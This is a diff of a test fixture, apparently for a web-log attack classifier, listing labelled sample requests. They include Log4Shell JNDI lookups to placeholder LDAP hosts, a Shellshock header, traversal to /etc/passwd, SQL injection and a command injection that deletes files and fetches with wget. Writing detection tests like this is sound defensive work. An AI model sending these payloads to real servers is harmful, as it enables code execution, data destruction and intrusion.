@@ -21,14 +21,13 @@ BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/120.0"
 
 # (method, target, status, user agent, referer, the verdict of all three)
 REQUESTS = [
-    ("GET", "/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.6%2Fa%7D", 400, BROWSER, "", "http:log4shell"),
+    ("GET", "/?x=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.6%2Fa%7D", 400, BROWSER, "", "http:log4shell"),
     ("GET", "/", 200, BROWSER, "${jndi:ldap://198.51.100.6/a}", "http:log4shell"),
     ("GET", "/cgi-bin/status", 200, "() { :; }; /bin/bash -c id", "", "http:shellshock"),
     ("GET", "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd", 400, BROWSER, "", "http:path-traversal"),
     ("GET", "/p.php?id=1%20UNION%20SELECT%201,2", 200, BROWSER, "", "http:sql-injection"),
     ("GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://a/b", 404, "Hello", "", "http:command-injection"),
-    ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, BROWSER, "",
-     "http:phpunit-rce"),  # fmt: skip
+    ("POST", "/vendor/phpunit/src/Util/PHP/eval-stdin.php", 404, BROWSER, "", "http:phpunit-rce"),
     ("POST", "/GponForm/diag_Form?images/", 404, BROWSER, "", "http:iot-exploit"),
     ("POST", "/wp-login.php", 200, BROWSER, "", "http:wp-login-brute-force"),
     ("POST", "/wp-login.php", 302, BROWSER, "", "successful login (redirect after the login form)"),
